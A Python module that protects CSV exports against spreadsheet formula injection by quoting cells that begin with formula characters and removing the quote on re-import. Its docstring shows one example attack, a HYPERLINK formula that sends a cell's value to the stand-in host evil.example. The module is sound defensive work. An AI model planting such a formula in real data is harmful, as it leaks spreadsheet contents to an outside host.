"""Text in a CSV file that a spreadsheet would run as a formula, written as text instead.

Anyone who can save a name can make it ``=HYPERLINK("http://evil.example/?"&A1,"Click")``;
Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after a tab or carriage return, what follows) when they open a CSV file. Every CSV the
registry writes — the API's export and the admin's — therefore passes each cell through
``neutralise``, which puts a single quote before such text, as OWASP's guidance on CSV
injection advises; spreadsheets show the quote and keep the rest as text. An Excel file needs
none of this: its cells are typed, and the admin's export stores such text as text cells.

The admin's import reads back what the export wrote: ``restore`` removes the quote exactly
where ``neutralise`` added it. So that this cannot be ambiguous, text that itself starts with a
quote gets a second one (``'=1`` is written ``''=1``). Plain numbers (``-5``, ``+3.25``) are no
formula and are left alone, so that a negative number stays a number.
"""

import re

QUOTE = "'"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTED_STARTS = (*FORMULA_STARTS, QUOTE)
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value):
    """``'=SUM(A1)`` for ``=SUM(A1)``; other text, numbers and ``None`` as they are."""
    if isinstance(value, str) and value.startswith(QUOTED_STARTS) and not NUMBER.fullmatch(value):
        return QUOTE + value
    return value


def restore(text):
    """The text ``neutralise`` was given: ``restore("'=SUM(A1)")`` is ``=SUM(A1)``."""
    if isinstance(text, str) and text.startswith(QUOTE) and text[1:2].startswith(QUOTED_STARTS):
        return text[1:]
    return text
